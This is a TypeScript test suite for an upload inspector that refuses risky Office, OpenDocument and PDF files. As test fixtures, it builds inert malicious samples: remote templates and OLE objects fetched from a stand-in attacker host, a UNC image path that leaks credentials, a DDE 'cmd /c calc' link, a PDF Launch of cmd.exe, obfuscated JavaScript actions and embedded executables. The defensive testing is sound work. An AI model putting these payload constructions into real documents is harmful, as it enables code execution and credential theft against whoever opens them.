import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { buffer } from 'node:stream/consumers'
import { deflateRawSync, deflateSync } from 'node:zlib'
import ExcelJS from 'exceljs'
import fc from 'fast-check'
import PDFDocument from 'pdfkit'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { zipOf } from '../test/zip.ts'
import { InspectError, inspectFile } from './inspect.ts'

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
const ODT = 'application/vnd.oasis.opendocument.text'
const RELATED = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'sigap-documents-test-'))
})
afterAll(() => rm(folder, { recursive: true, force: true }))

/** The type of an accepted document, otherwise why it is refused. */
async function judged(name: string, bytes: Uint8Array): Promise<string> {
  const path = join(folder, `${crypto.randomUUID()}-${name}`)
  await writeFile(path, bytes)
  return inspectFile({ path, name }, ['image', 'document']).then(
    ({ type }) => type,
    (error: unknown) => (error instanceof InspectError ? error.problem : String(error)),
  )
}

function packed(parts: Readonly<Record<string, string | Buffer>>): Buffer {
  return zipOf(
    Object.entries(parts).map(([name, content]) => {
      const bytes = Buffer.from(content)
      return { name, packed: deflateRawSync(bytes), size: bytes.length }
    }),
  )
}

type Related = { kind: string; target: string; external?: boolean }

const related = (all: readonly Related[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all
    .map(({ kind, target, external }, index) => {
      const mode = external ? ' TargetMode="External"' : ''
      return `<Relationship Id="r${index}" Type="${RELATED}/${kind}" Target="${target}"${mode}/>`
    })
    .join('')}</Relationships>`

/** A letter of Word as small as Word opens it, with what a test adds. */
function letter(
  given: {
    main?: string
    relations?: readonly Related[]
    parts?: Readonly<Record<string, string | Buffer>>
    types?: string
  } = {},
): Buffer {
  const main = given.main ?? `${DOCX}.main+xml`
  return packed({
    '[Content_Types].xml': `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${given.types ?? ''}<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`,
    '_rels/.rels': related([{ kind: 'officeDocument', target: 'word/document.xml' }]),
    'word/document.xml':
      '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Dengan hormat</w:t></w:r></w:p></w:body></w:document>',
    'word/_rels/document.xml.rels': related(given.relations ?? []),
    ...given.parts,
  })
}

async function workbook(): Promise<Buffer> {
  const made = new ExcelJS.Workbook()
  made.addWorksheet('Data').addRow(['Nama', 1])
  return Buffer.from(await made.xlsx.writeBuffer())
}

async function paper(draw: (document: PDFKit.PDFDocument) => void): Promise<Buffer> {
  const document = new PDFDocument()
  draw(document)
  document.end()
  return buffer(document)
}

describe('what programs write', () => {
  test.each([
    ['surat.xlsx', XLSX],
    ['surat.pdf', 'application/pdf'],
    ['surat.ods', 'type'],
  ])('LibreOffice: %s', async (name, type) => {
    expect(await judged(name, await readFile(join(import.meta.dirname, 'samples', name)))).toBe(type)
  })

  test('Excel sheets of ExcelJS, papers of PDFKit, letters with links, pictures, charts and a template of one’s own disk', async () => {
    expect(await judged('data.xlsx', await workbook())).toBe(XLSX)
    expect(await judged('a.pdf', await paper((page) => page.text('Tautan', { link: 'https://contoh.example' })))).toBe(
      'application/pdf',
    )
    const relations = [
      { kind: 'hyperlink', target: 'https://contoh.example/#a', external: true },
      { kind: 'hyperlink', target: 'mailto:a@contoh.example', external: true },
      { kind: 'image', target: 'https://contoh.example/lambang.png', external: true },
      { kind: 'attachedTemplate', target: 'file:///C:\\Users\\Budi\\Templat%20Dinas.dotx', external: true },
      { kind: 'package', target: 'embeddings/Microsoft_Excel_Sheet1.xlsx' },
    ]
    const parts = { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': await workbook() }
    expect(await judged('surat.docx', letter({ relations, parts }))).toBe(DOCX)
  })
})

describe('an office document is refused', () => {
  test.each([
    ['macros under another name', 'macro', { relations: [{ kind: 'vbaProject', target: 'isi.bin' }] }],
    [
      'macros by their type',
      'macro',
      {
        types: '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        parts: { 'word/vbaProject.bin': 'x' },
      },
    ],
    ['a main part with macros', 'macro', { main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }],
    ['a control', 'macro', { relations: [{ kind: 'control', target: 'activeX/activeX1.xml' }] }],
    [
      'a template from the network',
      'linked',
      { relations: [{ kind: 'attachedTemplate', target: 'https://penyerang.example/a.dotm', external: true }] },
    ],
    [
      'a template from a share',
      'linked',
      { relations: [{ kind: 'attachedTemplate', target: 'file://penyerang.example/a.dotm', external: true }] },
    ],
    [
      'a picture from a share, which is sent the password of whoever opens it',
      'linked',
      { relations: [{ kind: 'image', target: '\\\\penyerang.example\\a.png', external: true }] },
    ],
    [
      'an object from elsewhere',
      'linked',
      { relations: [{ kind: 'oleObject', target: 'http://penyerang.example/a', external: true }] },
    ],
    [
      'an object of another program',
      'embedded',
      { relations: [{ kind: 'oleObject', target: 'embeddings/oleObject1.bin' }] },
    ],
    ['a page of another format poured in', 'embedded', { relations: [{ kind: 'aFChunk', target: 'afchunk.rtf' }] }],
    [
      'a sheet inside that is none',
      'embedded',
      { relations: [{ kind: 'package', target: 'embeddings/a.xlsx' }], parts: { 'word/embeddings/a.xlsx': 'MZ' } },
    ],
    [
      'a letter inside with macros',
      'embedded',
      {
        relations: [{ kind: 'package', target: 'embeddings/a.docm' }],
        parts: { 'word/embeddings/a.docm': letter({ main: 'application/vnd.ms-word.document.macroEnabled.main+xml' }) },
      },
    ],
    ['slides', 'type', { main: 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml' }],
    [
      'a sheet that calls itself a letter',
      'extension',
      { main: `${XLSX}.main+xml`, parts: { 'word/document.xml': '<workbook/>' } },
    ],
    ['a main part that is another', 'broken', { main: `${XLSX}.main+xml` }],
    [
      'words that entities hide',
      'broken',
      { parts: { 'word/_rels/settings.xml.rels': `<!DOCTYPE a [<!ENTITY b "c">]>${related([])}` } },
    ],
  ] satisfies [string, string, Parameters<typeof letter>[0]][])('%s: %s', async (_, problem, given) => {
    expect(await judged('surat.docx', letter(given))).toBe(problem)
  })

  test('a sheet whose cells another program fills', async () => {
    const main = `${XLSX}.main+xml`
    const link = { kind: 'externalLink', target: 'externalLinks/externalLink1.xml' }
    const linked = (inner: string) =>
      letter({
        main,
        relations: [link],
        parts: {
          'word/document.xml': '<workbook/>',
          'word/externalLinks/externalLink1.xml': `<externalLink>${inner}</externalLink>`,
        },
      })
    expect(await judged('a.xlsx', linked('<externalBook r:id="r1"/>'))).toBe(XLSX)
    expect(await judged('a.xlsx', linked('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'))).toBe('linked')
  })

  test('one that only has the names of parts, two parts of one name, or a main part that does not unpack', async () => {
    expect(await judged('a.docx', packed({ 'word/document.xml': 'x', 'word/styles.xml': 'x' }))).toBe('type')
    expect(await judged('a.docx', packed({ '[Content_Types].xml': 'x', 'word/document.xml': 'x' }))).toBe('type')
    expect(await judged('a.docx', letter({ parts: { 'WORD/document.xml': '<w:document/>' } }))).toBe('broken')
    const whole = letter()
    const torn = Buffer.from(whole)
    torn.fill(0xff, whole.indexOf('word/document.xml') + 17, whole.indexOf('word/document.xml') + 60)
    expect(await judged('a.docx', torn)).toBe('broken')
  })

  test('an old one, or one under a password', async () => {
    const old = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(1000)])
    expect(await judged('a.doc', old)).toBe('old')
  })
})

describe('an open document is refused', () => {
  const text = (parts: Readonly<Record<string, string>> = {}) =>
    packed({
      mimetype: ODT,
      'META-INF/manifest.xml': `<manifest:manifest><manifest:file-entry manifest:full-path="/" manifest:media-type="${ODT}"/></manifest:manifest>`,
      'content.xml': '<office:document-content><office:scripts/></office:document-content>',
      ...parts,
    })
  test.each([
    [ODT, {}],
    [ODT, { 'Basic/Standard/script-lb.xml': '<library/>' }],
    ['macro', { 'Basic/Standard/Module1.xml': '<module/>' }],
    ['macro', { 'Scripts/python/a.py': 'import os' }],
    [
      'macro',
      {
        'content.xml':
          '<office:document-content><a xlink:href="vnd.sun.star.script:a.py$b?language=Python"/></office:document-content>',
      },
    ],
    ['embedded', { 'META-INF/manifest.xml': `<a b="${ODT}"/><c d="application/vnd.sun.star.oleobject"/>` }],
    ['locked', { 'META-INF/manifest.xml': `<a b="${ODT}"><manifest:encryption-data/></a>` }],
    ['broken', { 'content.xml': '<other/>' }],
    ['type', { mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }],
  ])('%s: %j', async (expected, parts) => {
    expect(await judged('surat.odt', text(parts))).toBe(expected)
  })
})

describe('a PDF', () => {
  const pdf = (objects: string | Buffer) =>
    Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(objects), Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n')])
  const listed = (objects: string, keys = '') => {
    const data = deflateSync(Buffer.from(`5 0 6 20 ${objects}`))
    const head = `3 0 obj<</Type/ObjStm/N 2/First 9/Filter/FlateDecode/Length ${data.length}${keys}>>stream\r\n`
    return Buffer.concat([Buffer.from(head), data, Buffer.from('\r\nendstream endobj')])
  }

  test.each([
    ['where to begin', 'application/pdf', pdf('1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]>>endobj')],
    ['objects packed together', 'application/pdf', pdf(listed('<</Type/Catalog>><</Type/Pages>>'))],
    ['a script', 'script', pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj')],
    ['a script written otherwise', 'script', pdf('1 0 obj<</OpenAction<</S /J#61va#53cript/JS(a)>>>>endobj')],
    ['a script among packed objects', 'script', pdf(listed('<</S/JavaScript/JS(a)>>'))],
    [
      'a script beside packed objects that are named otherwise',
      'script',
      pdf(Buffer.from(listed('<</S/JavaScript>>').toString('latin1').replace('ObjStm', 'Obj#53tm'), 'latin1')),
    ],
    ['a program', 'script', pdf('1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj')],
    ['another file', 'script', pdf('1 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj')],
    ['a form in another language', 'script', pdf('1 0 obj<</AcroForm<</XFA 4 0 R>>>>endobj')],
    [
      'objects under a password',
      'locked',
      Buffer.concat([pdf(listed('<</Type/Catalog>>')), Buffer.from('trailer<</Encrypt 9 0 R>>%%EOF')]),
    ],
    ['a password on what was looked at', 'application/pdf', pdf('1 0 obj<</Encrypt 9 0 R>>endobj')],
    [
      'objects packed as nobody packs them',
      'broken',
      pdf('3 0 obj<</Type/ObjStm/Filter/ASCIIHexDecode>>stream\n789c\nendstream'),
    ],
    [
      'objects that were never packed',
      'application/pdf',
      pdf('3 0 obj<</Type/ObjStm/N 1>>stream\n5 0 <</Type/Catalog>>\nendstream'),
    ],
  ])('%s: %s', async (_, expected, bytes) => {
    expect(await judged('surat.pdf', bytes)).toBe(expected)
  })

  test('made with an attachment or a script by a program is refused', async () => {
    expect(await judged('a.pdf', await paper((page) => page.file(Buffer.from('MZ'), { name: 'a.exe' })))).toBe('script')
    const script = await paper((page) => {
      page.initForm()
      page.formText('nilai', 10, 10, 100, 20, { format: { type: 'number' } })
    })
    expect(await judged('a.pdf', script)).toBe('script')
  })

  test('is looked at wherever in its megabytes something lies', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 0, max: 2_000_000 }), async (at) => {
        const bytes = Buffer.alloc(2_000_100, 65)
        bytes.write('%PDF-1.7\n')
        bytes.write('/S/Java#53cript ', 9 + at)
        bytes.write('%%EOF', bytes.length - 10)
        expect(await judged('a.pdf', bytes)).toBe('script')
      }),
      { numRuns: 4, examples: [[999_985], [999_991 - 8], [1_999_985]] },
    )
  })
})

test('whatever bytes come instead, one word is the answer', async () => {
  const real = [letter(), await workbook()]
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...real), fc.nat(5000), fc.nat(255), async (whole, at, byte) => {
      const changed = Buffer.from(whole)
      changed[at % whole.length] = byte
      expect(await judged('a.docx', changed)).not.toMatch(/Error/)
    }),
    { numRuns: 60 },
  )
})
